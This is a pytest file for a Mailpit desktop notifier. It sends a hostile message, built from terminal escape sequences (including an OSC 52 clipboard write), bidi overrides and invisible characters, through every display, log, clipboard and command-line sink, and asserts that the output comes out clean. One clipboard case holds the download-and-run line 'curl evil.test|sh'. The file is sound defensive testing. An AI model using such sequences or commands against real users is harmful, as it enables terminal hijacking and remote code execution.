"""No text of a message or a server leaves the program with an invisible character.

One hostile message is sent through every sink; a new sink belongs into this file.
"""

import asyncio
import inspect
import json
import logging
import re
import sys
from collections.abc import Callable, Iterable
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial
from importlib import import_module
from io import BytesIO, StringIO, TextIOWrapper
from pathlib import Path
from pkgutil import iter_modules
from typing import TextIO, cast
from unicodedata import category

import pytest
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QAbstractButton, QLabel, QListView, QPlainTextEdit, QSystemTrayIcon

import smtp
from campaign.inside import NO_CALLBACKS
from mailpit_notifier import notify
from mailpit_notifier.cli.answers import Conditions, Question, Verdict
from mailpit_notifier.cli.common import CleanStream
from mailpit_notifier.cli.standalone import KINDS
from mailpit_notifier.cli.wait import describe
from mailpit_notifier.client.certificates import Certificate
from mailpit_notifier.client.rest import Rest
from mailpit_notifier.client.transport import dial
from mailpit_notifier.core.contents import message_as_json
from mailpit_notifier.core.inbox import Change
from mailpit_notifier.core.rules import Outcome, Rule
from mailpit_notifier.core.settings import Notifications, Settings, servers_from
from mailpit_notifier.core.status import Link, ServerStatus
from mailpit_notifier.desktop.clipboard_writer import Clipboard
from mailpit_notifier.findings.result import Findings
from mailpit_notifier.logs import LineFormatter
from mailpit_notifier.main import main
from mailpit_notifier.notify.backends import PrintedNotifier
from mailpit_notifier.notify.notice import Action, Notice, Notifier, Result
from mailpit_notifier.notify.problem_notices import (
    config_notice,
    disk_notice,
    example_notice,
    failure_notice,
    outage_notice,
    smtp_error_notice,
    suspended_notice,
    unexpected_error_notice,
    updated_notice,
    welcome_notice,
)
from mailpit_notifier.notify.texts import (
    AnnouncedMessage,
    away_notice,
    burst_notice,
    deleted_notice,
    message_notice,
    muted_notice,
    paused_notice,
)
from mailpit_notifier.protocol.events import Refused, parse
from mailpit_notifier.protocol.faults import Fault
from mailpit_notifier.protocol.model import message_from
from mailpit_notifier.runtime.text import json_line
from mailpit_notifier.servers.servers import Servers
from mailpit_notifier.ui import clipboard, words
from mailpit_notifier.ui.clipboard import CopyWindow
from mailpit_notifier.ui.dialogs import CertificateDialog
from mailpit_notifier.ui.labels import PlainLabel
from mailpit_notifier.ui.settings.general_pages import DiagnosticsPage
from mailpit_notifier.ui.settings.rules_page import RulePreview, Sample
from mailpit_notifier.ui.timing import Throttle, Timing
from mailpit_notifier.ui.tray.icon import Tray
from mailpit_notifier.ui.tray.menu import TrayMenu
from mailpit_notifier.ui.window import message_actions
from mailpit_notifier.ui.window.delegate import chips_of
from mailpit_notifier.ui.window.list_model import MessageListModel, Qt, Row
from mailpit_notifier.ui.window.message_actions import MessageAction, file_name
from standin import StandIn

pytestmark = pytest.mark.usefixtures("qapp")


class Quiet(Notifier):
    """A notifier that accepts every notice."""

    async def show(self, notice: Notice) -> Result:
        return Result.SHOWN


SECRET = "Zebra"
"""Part of each text of the hostile message and its server."""

BAD = (
    "\x00\x01\t\x0b\x0c\r\n\x1b]52;c;eA==\x07\x1b[31m\x1f\x7f\x80\x85\x9b31m\xad\u061c\u200b\u200c\u200d\u200e\u2028\u2029"
    "\u202a\u202b\u202d\u202e\u202c\u2060\u2066\u2067\u2068\u2069\u3164\ufeff\ufff9\U000e0041\U000e007f\ud800\udc00\ud800"
)
TEXT = f"{SECRET}{BAD}x {BAD} é<b>&_x</b>"
SHOP, BLOG = "http://shop.test:8025/", "http://blog.test:8025/"
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)

PERSON = {"Name": TEXT, "Address": f"{TEXT}@x.test"}
DATA = {
    "ID": "A1",
    "Created": NOW.isoformat(),
    "Subject": TEXT,
    "Snippet": TEXT,
    "Tags": [TEXT],
    "Username": TEXT,
    "From": PERSON,
    "To": [PERSON, {"Name": TEXT}],
    "Cc": [PERSON],
    "Attachments": 2,
    "Size": 9,
}
MESSAGE = message_from(DATA, NOW)
NAMELESS = message_from({**DATA, "Subject": "", "To": None, "Cc": None, "From": {"Name": TEXT}}, NOW)
FOUND = Findings(code=TEXT, link="https://xn--cme-5cd.test/confirm?t=1")
STATUSES = tuple(
    ServerStatus(url=url, name=TEXT, link=link, fault=Fault.AUTH, total=2, unread=1, asks_password=True)
    for url, link in ((SHOP, Link.DISCONNECTED), (BLOG, Link.POLLING))
)
ROWS = tuple(Row(server=SHOP, message=message) for message in (MESSAGE, NAMELESS))
RULE = Rule(outcome=Outcome.SILENT, name=TEXT)


def is_clean(text: str) -> bool:
    """Whether people see every character. Our own isolates, which end where they should, are left out."""
    text = re.sub("\u2068([^\u2066-\u2069]*)\u2069", r"\1", text)
    return not {category(char) for char in text} & {"Cc", "Cf", "Cs", "Zl", "Zp"} and "\u3164" not in text


def model() -> MessageListModel:
    made = MessageListModel(now=lambda: NOW)
    made.set_servers(STATUSES)
    made.apply(SHOP, Change(added=tuple(row.message for row in ROWS)))
    made.update_rows()
    return made


def rows() -> Iterable[str]:
    made = model()
    roles = (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.AccessibleTextRole, Qt.ItemDataRole.ToolTipRole)
    lines = [str(made.index(row).data(role)) for row in range(made.rowCount()) for role in roles]
    chips = [
        chip.text
        for row in ROWS
        for found in (FOUND, Findings(link=FOUND.link))
        for chip in chips_of(row.message, found)
    ]
    return [part for text in (*lines, *chips) for part in text.split("\n")]


def labels() -> Iterable[str]:
    return [message_actions.label(action, row.message, FOUND) for action in MessageAction for row in ROWS]


def menus() -> Iterable[str]:
    for over_bus in (False, True):
        menu = TrayMenu(Timing())
        menu.complete()
        menu.set_over_bus(over_bus)
        menu.set_newest(ROWS)
        menu.set_statuses(STATUSES)
        yield from (action.text() for action in menu.actions())


def tooltip() -> Iterable[str]:
    tray = Tray()
    tray.set_statuses(STATUSES)
    tray.findChild(Throttle).due.emit()
    return tray.findChild(QSystemTrayIcon).toolTip().split("\n")


def standing() -> Iterable[str]:
    yield from map(words.server_line, STATUSES)
    yield words.problem_summary(STATUSES)
    yield words.polling_summary(STATUSES)
    yield words.menu_text(TEXT)
    yield words.bus_menu_text(TEXT)
    yield words.tooltip_text(TEXT).replace("\n", "")


def preview() -> Iterable[str]:
    part = RulePreview()
    samples = [Sample(message=row.message, server=("shop",)) for row in ROWS]
    part.preview(RULE, (Rule(outcome=Outcome.HIDE, name="another"),), samples)
    (view,) = part.findChildren(QListView)
    yield from (str(view.model().index(row, 0).data()) for row in range(view.model().rowCount()))
    yield from texts_of(part.findChildren(QLabel))


def texts_of(found: Iterable[QLabel]) -> Iterable[str]:
    return [part for label in found for part in label.text().split("\n")]


def dialogs() -> Iterable[str]:
    certificate = Certificate(subject=TEXT, issuer=TEXT, begins=NOW, ends=NOW)
    dialog = CertificateDialog(STATUSES[0].name, "ab" * 32, certificate, "cd" * 32)
    yield dialog.windowTitle()
    yield from texts_of(dialog.findChildren(QLabel))
    window = CopyWindow()
    window.ask(TEXT)
    (button,) = window.findChildren(QAbstractButton)
    yield from (button.text(), button.accessibleName())
    window.close()
    label = PlainLabel()
    label.setText(TEXT)
    yield label.text().replace("\n", "")
    page = DiagnosticsPage(())
    page.add_line(TEXT)
    (report,) = page.findChildren(QPlainTextEdit)
    yield report.toPlainText().replace("\n", "")
    next(one for one in page.findChildren(QAbstractButton) if "Copy" in one.text()).click()
    yield QGuiApplication.clipboard().text().replace("\n", "")


def notices(shown: Notifications) -> Iterable[Notice]:
    """Yield one notice of each kind, about the hostile message, its server or the output of a command."""
    hidden = shown.hide_content
    refused = Refused(ip=TEXT, text=TEXT)
    name = "shop" if hidden else TEXT  # see Servers.display_name
    for message in (MESSAGE, NAMELESS):
        announced = AnnouncedMessage(server_url=SHOP, message=message, server_name=name, found=FOUND)
        yield message_notice(announced, shown)
        yield deleted_notice(announced, shown)
        yield away_notice([("", 2)], message, shown)
        yield paused_notice([(name, 2), ("blog", 1)], message, shown)
        yield muted_notice([(name, 2)], message, shown)
        yield burst_notice(SHOP, name, "#b8642a", 3, message, shown)
    yield smtp_error_notice(SHOP, name, "#b8642a", refused, 1, shown, update=False)
    yield smtp_error_notice(SHOP, name, "#b8642a", refused, 2, shown, update=True)
    yield outage_notice(STATUSES[0], name)
    yield example_notice(shown)
    yield updated_notice()
    yield unexpected_error_notice(Path("log.txt"))
    yield disk_notice(OSError(28, "No space left on device"))
    yield suspended_notice("news", "takes too long")
    own = "shop" if hidden else TEXT  # what the user wrote: a rule, a path, an address
    yield welcome_notice(SHOP, own, 2)
    yield config_notice(own)
    yield failure_notice(own, own)


def notified() -> Iterable[str]:
    for shown in (Notifications(sender=True, buttons=("copy", "link", "delete")), Notifications(hide_content=True)):
        for notice in notices(shown):
            printed = StringIO()
            print_notice = PrintedNotifier(printed).show(notice)
            with pytest.raises(StopIteration):
                print_notice.send(None)
            yield from (
                notice.title,
                *notice.body.split("\n"),
                *notice.body_without_buttons.split("\n"),
                *(action.label for action in notice.actions),
            )
            yield printed.getvalue().removesuffix("\n")
    yield Action(key="x", label=TEXT).label


SINKS: dict[str, Callable[[], Iterable[str]]] = {
    "rows": rows,
    "labels": labels,
    "menus": menus,
    "tooltip": tooltip,
    "standing": standing,
    "rule preview": preview,
    "dialogs": dialogs,
    "notices": notified,
    "file name": lambda: [file_name(row.message) for row in ROWS],
    "answers of wait": lambda: [describe(Verdict(server=servers_from([SHOP])[0], message=row.message)) for row in ROWS],
    "JSON": lambda: [json_line(message_as_json(TEXT, SHOP, MESSAGE, FOUND))],
}


@pytest.mark.parametrize("sink", SINKS.values(), ids=list(SINKS))
def test_all_shown_texts_are_clean(sink: Callable[[], Iterable[str]]) -> None:
    texts = list(sink())
    assert [text for text in texts if not is_clean(text)] == []
    assert any(SECRET in text for text in texts)


async def test_the_clipboard_gets_one_clean_line() -> None:
    seen = "Zebra ]52;c;eA==[31m  31m x  ]52;c;eA==[31m  31m  é<b>&_x</b>"
    address = "x curl evil.test|sh @x.test"
    for text, copied in ((TEXT, seen), ("x\ncurl evil.test|sh\n@x.test", address), ("482\u200b913\r\n", "482913")):
        clipboard.put(text)
        assert QGuiApplication.clipboard().text() == copied
        QGuiApplication.clipboard().clear()
        assert await Clipboard("unix:path=/nowhere").copy(text)
        assert QGuiApplication.clipboard().text() == copied
        window = CopyWindow()
        window.ask(text)
        window.findChild(QAbstractButton).click()
        assert QGuiApplication.clipboard().text() == copied


def test_a_log_record_is_one_line() -> None:
    stream = StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(LineFormatter())
    logger = logging.Logger("hostile")  # noqa: LOG001 - one that pytest does not listen to
    logger.addHandler(handler)
    logger.debug("shop: ignored a frame: %s", parse(json.dumps({"Type": TEXT}), NOW))
    logger.warning("failed: %s", TEXT)
    logger.error("%s", TEXT, exc_info=ValueError(f"{TEXT}\n2026-01-01 00:00:00,000 ERROR forged: yes"))
    lines = stream.getvalue().splitlines()
    assert [line for line in lines if not is_clean(line)] == []
    begins = [line for line in lines if not line.startswith("  ")]
    assert [line.split()[2] for line in begins] == ["DEBUG", "WARNING", "ERROR"]
    assert any("forged" in line for line in lines)


def test_commands_write_nothing_that_a_terminal_acts_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "mail.eml"
    source.write_bytes(
        smtp.compose("=?utf-8?Q?Ze=00=1B[31mbra=C2=9B=E2=80=AE=0A?=", "ann@x.test", text="Your code is 482913.")
    )
    assert main(["extract", str(source)]) == 0
    assert capsys.readouterr().out == "Ze[31mbra: code 482913\n"
    assert main(["extract", f"{tmp_path}/no\x1b]0;x\x07\u202e\n.eml"]) == 2
    for arguments in (
        ["--\x1b[31mx"],
        ["wait", f"--{TEXT}"],
        ["wait", "--subject", "/(\x1b/"],
        ["--config", "\x1b[1m"],
    ):
        with pytest.raises(SystemExit):
            sys.exit(main(arguments))
    output = capsys.readouterr()
    assert output.err.count("\n") >= 5
    assert is_clean((output.out + output.err).replace("\n", ""))
    print(TEXT, file=sys.stderr)  # such as a traceback
    sys.stderr.writelines([TEXT, TEXT])
    assert is_clean(capsys.readouterr().err.replace("\n", ""))


def test_wait_prints_clean_answers_but_for_the_raw_source() -> None:
    source = smtp.compose(
        "Code", "ann@x.test", text=f"Your code is 482913.\n{TEXT}\n".encode("utf-8", "replace").decode()
    )
    with StandIn() as server:
        server.send_source(source)
        (named,) = servers_from([server.url])
        with closing(Rest(named.url, partial(dial))) as rest:
            (message,) = rest.snapshot(1).messages
            answers = {
                kind: Question(conditions=Conditions(), kind=kind).judge(named, message, rest).answer for kind in KINDS
            }
    assert answers.pop("raw").endswith(source)
    shown = {kind: answer.decode() for kind, answer in answers.items() if answer}
    assert [kind for kind, text in shown.items() if not is_clean(text.replace("\n", ""))] == []
    assert shown["code"] == "482913\n"
    assert shown["text"].startswith(f"Your code is 482913.\n{SECRET}")


def test_characters_that_a_terminal_cannot_encode_are_escaped() -> None:
    written = BytesIO()
    stream = CleanStream(TextIOWrapper(written, "latin-1"))
    print("é €", file=cast("TextIO", stream), flush=True)
    assert written.getvalue().splitlines() == [b"\xe9 \\u20ac"]


async def test_the_name_that_a_server_gives_itself_is_content(tmp_path: Path) -> None:
    with StandIn(label=SECRET) as server:
        servers = Servers(Quiet(), tmp_path, NO_CALLBACKS)
        settings = Settings(servers=servers_from([server.url]))
        servers.start(settings)
        try:
            async with asyncio.timeout(15):
                while servers.display_name(server.url) != SECRET:
                    await asyncio.sleep(0.01)
            servers.update_settings(replace(settings, notifications=Notifications(hide_content=True)))
            assert servers.display_name(server.url) == server.url.removeprefix("http://").rstrip("/")
        finally:
            await servers.stop()


def test_json_keeps_the_text_of_the_message() -> None:
    fields = json.loads(json_line(message_as_json("shop", SHOP, MESSAGE, FOUND)))
    assert fields["subject"] == MESSAGE.subject
    assert "\u202e" in fields["subject"]
    assert fields["to"][0]["address"] == MESSAGE.to[0].address


def is_here(module: str) -> bool:
    """Return whether a module of notifications can be imported on this platform."""
    return {"macos": "darwin", "freedesktop": "linux", "service": "linux"}.get(module, sys.platform) == sys.platform


def test_every_kind_of_notice_is_checked() -> None:
    modules = [
        import_module(f"{notify.__name__}.{found.name}")
        for found in iter_modules(notify.__path__)
        if is_here(found.name)
    ]
    makers = {
        name
        for module in modules
        for name, function in inspect.getmembers(module, inspect.isfunction)
        if function.__annotations__.get("return") is Notice and not name.startswith("_")
    }
    assert makers == set(re.findall(r"yield (\w+_notice)\(", inspect.getsource(notices)))


def test_with_hidden_content_no_notice_contains_anything_of_a_message_or_a_server() -> None:
    hidden = Notifications(hide_content=True, sender=True, buttons=("copy", "link", "delete"))
    for notice in notices(hidden):
        shown = " ".join((notice.title, notice.body, *(action.label for action in notice.actions)))
        assert SECRET not in shown
        assert "xn--" not in shown
        assert "x.test" not in shown
    texts = {notice.title: notice.body for notice in notices(Notifications())}
    assert sum(SECRET in title + body for title, body in texts.items()) >= 8
